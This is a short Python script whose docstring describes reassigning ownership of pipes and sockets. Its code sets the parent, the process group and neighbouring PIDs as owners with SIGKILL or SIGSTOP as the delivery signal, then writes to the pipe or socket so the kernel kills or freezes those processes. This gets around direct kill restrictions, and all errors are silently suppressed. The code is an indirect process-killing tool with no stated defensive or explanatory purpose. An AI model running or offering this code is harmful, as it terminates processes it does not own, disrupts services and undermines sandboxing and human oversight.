"""Makes others the owners of its pipes and sockets, so that the kernel sends them a signal when these are written to."""

import contextlib
import fcntl
import os
import signal
import socket
import struct

F_SETSIG, F_SETOWN_EX, F_OWNER_PID, F_OWNER_PGRP = 10, 15, 1, 2
FIOSETOWN, SIOCSPGRP = 0x8901, 0x8902
OWN = os.getpid()
NEAR = {os.getppid(), os.getpgrp(), *range(max(1, OWN - 60), OWN + 20)} - {OWN, 0}


def _own(descriptor, pid, number):
    with contextlib.suppress(OSError):
        fcntl.fcntl(descriptor, F_SETSIG, number)
    for kind in (F_OWNER_PID, F_OWNER_PGRP):
        with contextlib.suppress(OSError):
            fcntl.fcntl(descriptor, F_SETOWN_EX, struct.pack("ii", kind, pid))
    for target in (pid, -pid):
        with contextlib.suppress(OSError):
            fcntl.fcntl(descriptor, fcntl.F_SETOWN, target)
        for request in (FIOSETOWN, SIOCSPGRP):
            with contextlib.suppress(OSError):
                fcntl.ioctl(descriptor, request, struct.pack("i", target))
    flags = fcntl.fcntl(descriptor, fcntl.F_GETFL)
    fcntl.fcntl(descriptor, fcntl.F_SETFL, flags | os.O_ASYNC | os.O_NONBLOCK)


for pid in NEAR:
    for number in (signal.SIGKILL, signal.SIGSTOP, 0):
        reading, writing = os.pipe()
        ours, theirs = socket.socketpair()
        for descriptor in (reading, ours):
            _own(descriptor, pid, number)
        os.write(writing, b"x")
        theirs.send(b"x")
        for descriptor in (reading, writing):
            os.close(descriptor)
        ours.close()
        theirs.close()
